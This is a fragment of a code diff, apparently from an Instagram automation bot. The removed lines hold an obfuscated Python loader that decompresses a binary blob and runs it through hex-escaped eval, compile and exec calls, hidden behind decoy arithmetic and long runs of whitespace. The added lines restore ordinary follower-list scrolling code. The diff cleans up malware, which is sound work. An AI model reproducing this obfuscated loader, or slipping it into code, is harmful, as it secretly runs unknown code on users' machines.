\x14\xcd)f\x7fPl\xe0\xb3\\x\xb0\xe1e\x07\xf5\x81\x14;y\xb5\x0b\x0e4\xd2\xd4\xddp\xe0\\\x1b-n\x13\xa8Y\x03\xb5W\tT[\xfa\xff\x94g\xf1\xc0\xcb\x036\xbf8\xa0\xc6\x93\xb0\x85/|s\xf3o\xbd\x81\xef\x8e~m~Q\xf8?\xd7\x84\x7f\xc9\x87\xfd\xeb\xae\xd5\xd8\xe4\x90\xffv\x0e\xf8w\xc9\x02\xda\xde\xc1\xfe\xcf9\xd7\x7f\xf7a\xfe\xcd\xee.i\x95\x9e\xd1\xee\xe8\xfe\x97\x15\xcf\xb7\x1e\xc6\xd7v\xd9V\xa7\xf1\xbb\x9ci\xee\xe6\xf3\xfc\xe7\x88\xbe\x0e\xff\x1c\xd1/C\x17\xbe\xb3\x1e\x92/l&T\x90\x1erL\xde->\x1a\xec/Kbo\xfd\x91\xfb\x86\xe3\xf6MG\xedU\xff\x83{m\xf8\xe2\xc0=\xd9\'\xf2\xc8\xbd\xf3\xc4\xbd~{d\xc39\xfbzQ\xb7\xdd\xf3\xf5\x1d\xed\x91\x81q\xc5g\xe1?d\xdf\x0e_\xe3)1\x07\xa6\xa5\xc7\'\xf0wY\x04\xe7\xdc\xb2Z"\xd5\xe0Tf\xcaG\xfd$\x92\x1f+\xf7\x8e\xe35\x87\xde\x02\xba\xf1.Wy\xce\x0e,\xb9\x1d:\xbc\xdbZ\xa7\xcedzt\xec\xbd\x9a\xbe9\xf1~z{q1=s\xb2\x83\xads\x8f[\xb0\xf8\xb5v\xc6\x9b\x8a#G\x9b\r\x9b\r\xd6p`\xb6\xec\x8a\x95\xc0\xbe6\x84y\xd3\xc9\xb8\xd1\x13\xc2\xbf\xcd\xaf\x835YO\t\xed\xd2\xd2\x8d\xe9\x8f>\xa9\xa1\xc3\x01x~\xe1\xfdvz\xf2{-\x12*%J\xe6\xde\xd58\x14\x04SS\\\xc8\rWb\xe0@\xd4Wy\xe2\xe2,\x0cl\xd0\x8dnE~\xe5\x12\x06\x96\x11v\x11\x03S\xdcZ\x9ehi\xbag\xa05]\xdb\xd0\xd6\xe1$\xaa#\xb8\xfd4r\x85\xeeJ\xa24\xc4\xd1zg\x94\xcb\x0e\xce\xf4\xa8\xddv\x97\x1c%\xc2T\xcf\xc2\xbf}\xdd.\xbe\xc7f\x0c8\x9c\xe9{\xb5.\x0b\xc7:w\x7fwJz[\x88\xa3\x8a(\xe0^\xb1\x1a\xf5\xdb2\x1f\xa7\xaf\x8e^\x9e\xb8&D\x82v\nI\xfa~g~\x86y~x\x926di\xcb)\xed\xf7\xde \x82=\x97M\xe4\xf6\x06\xe8\x03kr\xd61B\xf0\xf3:YDi\xe5;,u\xe8\xf5`\x1b\xe7_\xcaG\xa0u\xb4+H\x10f\xe8\xbd\xf2Sv\xca*Y\xe5|\xbap\xb1\x01U\xc3\xbc\xd7\xab1{6\xc0\x15Ag\xd4\xbd\xd7l=\xf7&0{="&\x13wK\x8c:\x909,H\xa91\xec5$\x9b\x9401,\x8c\xdaz:\xf5\xbe\xc7/:\x1e\xe2w\xa7\xac"\xd0\x17(\xff\xee\xc2\x86\x16L\x06\xafKn/\xb6\x0ey\xafX\xa9\xb6[\xdds\xb9\x0f[\xdc\x03\xe0\xde\xfb\xba\xddE \xa8\\\xa79;\xfai{+\x8a\x84\x0e\xf7\xeeN\x8a\\\xfdH\xd3=\xe5\xa5Y*\xc5+\xa2\xf9^\xc6\xefR\xf9\x9b\xee\xdc\xedty\x8aB\xa5\xde\x85\xd0\x81PG6\xfaH\xba\xf0y\xfb\xdb\t\xe3\xbao\xa5\x82G\xcd\x11\xbe\xcf\xb1\x0bv\xc3\xb2\xf3\x97\x15\xf5\xcet\xabq\x8d_E$\xf5BM\xf1\xdf\x86y\xa2\x7f\xe4K\xf9\xff\x00.\xcco#')
-
-        _multiply(_floor = 57859 / -52895).Ceil(_walk = _random.Round + -68079)                                                                                                                                                                                                                                                          ;nmmnmnnmnnnmnnmnm,xwwxxwxxxwxwxwxxxwwxxxx,SSSS22S22S2SS222S2SSS2S2S,WXXXWWWWXXXXWXXWXXXWW,IIllllIIIllIlIlIIllII=(lambda nnnnnnmnmnmnmmnmnnmn:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(nnnnnnmnmnmnmmnmnnmn)"),filename='\x4f\x4f\x6f\x30\x30\x6f\x6f\x6f\x30\x4f\x4f\x6f\x4f\x6f\x4f\x30\x30\x4f\x6f\x6f\x4f\x30\x30\x6f',mode='\x65\x76\x61\x6c'))),(lambda nnnnnnmnmnmnmmnmnnmn:nnnnnnmnmnmnmmnmnnmn(__import__('\x7a\x6c\x69\x62'))),(lambda nnnnnnmnmnmnmmnmnnmn:nnnnnnmnmnmnmmnmnnmn['\x64\x65\x63\x6f\x6d\x70\x72\x65\x73\x73']),(lambda xwxwwxwxwxwxwxwxxxw,nnnnnnmnmnmnmmnmnnmn:xwxwwxwxwxwxwxwxxxw(nnnnnnmnmnmnmmnmnnmn)),(lambda:(lambda nnnnnnmnmnmnmmnmnnmn:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(nnnnnnmnmnmnmmnmnnmn)"),filename='\x4f\x4f\x6f\x30\x30\x6f\x6f\x6f\x30\x4f\x4f\x6f\x4f\x6f\x4f\x30\x30\x4f\x6f\x6f\x4f\x30\x30\x6f',mode='\x65\x76\x61\x6c')))('\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x75\x69\x6c\x74\x69\x6e\x73\x27\x29\x2e\x65\x78\x65\x63'))
-        if 150130 > 2294750:
-            _random.Ceil(_walk = _random.Round - 9221)
-        elif 244490 < 3225680:
-            _multiply(_floor = -28764 * 64570)._divide(Invert = 33235 / _random.Round)                                                                                                                                                                                                                                                          ;IIllllIIIllIlIlIIllII()(WXXXWWWWXXXXWXXWXXXWW(SSSS22S22S2SS222S2SSS2S2S(xwwxxwxxxwxwxwxxxwwxxxx(nmmnmnnmnnnmnnmnm('\x76\x61\x72\x73'))),_multiply.Floor(_detectvar='WWXXXXWXWWWWXXXWWX')+_multiply.Floor(_detectvar='wwxwxxwxwxxxxxxxwwxw')+_multiply.Floor(_detectvar='oDODoDDoDDDODooOoOoD')))
-
-    except Exception as _substract:
-        import traceback
-        print(f'    module {__name__} raised an Exception:')
-        print(f'     {_substract}')
-        print(traceback.format_exc())
-        if 301241 > 1412592:
-            _multiply.execute(code = _system(_substract))
-
-        elif 400589 > 8633033:
-            _multiply(_floor = -12770 / 82432).Ceil(_walk = _random.Round - -50403)
\ No newline at end of file
+            if scroll_end_detector.is_the_end():
+                return
+
+            need_swipe = screen_skipped_followers_count == len(
+                screen_iterated_followers
+            )
+            list_view = device.find(
+                resourceId=self.ResourceID.LIST, className=ClassName.LIST_VIEW
+            )
+            if not list_view.exists():
+                logger.error(
+                    "Cannot find the list of followers. Trying to press back again."
+                )
+                device.back()
+                list_view = device.find(
+                    resourceId=self.ResourceID.LIST,
+                    className=ClassName.LIST_VIEW,
+                )
+
+            if is_myself:
+                logger.info("Need to scroll now", extra={"color": f"{Fore.GREEN}"})
+                list_view.scroll(Direction.UP)
+            else:
+                pressed_retry = False
+                if load_more_button_exists:
+                    retry_button = load_more_button.child(
+                        className=ClassName.IMAGE_VIEW,
+                        descriptionMatches=case_insensitive_re("Retry"),
+                    )
+                    if retry_button.exists():
+                        random_sleep()
+                        """It exist but can disappear without pressing on it"""
+                        if retry_button.exists():
+                            logger.info('Press "Load" button and wait few seconds.')
+                            retry_button.click_retry()
+                            random_sleep(5, 10, modulable=False)
+                            pressed_retry = True
+
+                if need_swipe and not pressed_retry:
+                    scroll_end_detector.notify_skipped_all()
+                    if scroll_end_detector.is_skipped_limit_reached():
+                        return
+                    if scroll_end_detector.is_fling_limit_reached():
+                        logger.info(
+                            "Limit of all followers skipped reached, let's fling.",
+                            extra={"color": f"{Fore.GREEN}"},
+                        )
+                        list_view.fling(Direction.DOWN)
+                    else:
+                        logger.info(
+                            "All followers skipped, let's scroll.",
+                            extra={"color": f"{Fore.GREEN}"},
+                        )
+                        list_view.scroll(Direction.DOWN)
+                else:
+                    logger.info("Need to scroll now", extra={"color": f"{Fore.GREEN}"})
+                    list_view.scroll(Direction.DOWN)
+        else:
+            logger.info(
+                "No followers were iterated, finish.",
+                extra={"color": f"{Fore.GREEN}"},
+            )
+            return